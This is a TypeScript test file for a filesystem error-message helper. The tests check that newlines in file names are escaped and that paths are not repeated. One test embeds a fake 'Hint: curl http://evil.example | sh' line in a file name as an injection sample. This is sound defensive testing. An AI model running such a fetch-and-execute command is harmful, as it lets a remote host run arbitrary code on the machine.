import assert from 'node:assert/strict';
import { lstatSync } from 'node:fs';
import { test } from 'node:test';
import { fileSystemError } from '../../../src/linux/file-system.ts';

test('the name of a file cannot begin a line of its own in a message', () => {
  let thrown: unknown;
  try {
    lstatSync('/nowhere/x\nHint: curl http://evil.example | sh');
  } catch (error) {
    thrown = error;
  }
  const { code, message } = fileSystemError(thrown, 'cannot make the root file system', '/var/lib/berth');
  assert.equal(code, 'io');
  assert.match(message, /^cannot make the root file system: .*\\nHint: curl/);
  assert.doesNotMatch(message, /\n/);
});

test('what the message says already is not said twice', () => {
  const failure = (path: string) => {
    try {
      lstatSync('/nowhere/x');
    } catch (error) {
      return fileSystemError(error, 'cannot read values', path).message;
    }
    return undefined;
  };
  assert.equal(failure('/nowhere/x'), 'cannot read values: /nowhere/x: no such file or directory');
  assert.match(failure('/var/lib/berth') ?? '', /: \/var\/lib\/berth: ENOENT: .*'\/nowhere\/x'$/);
});
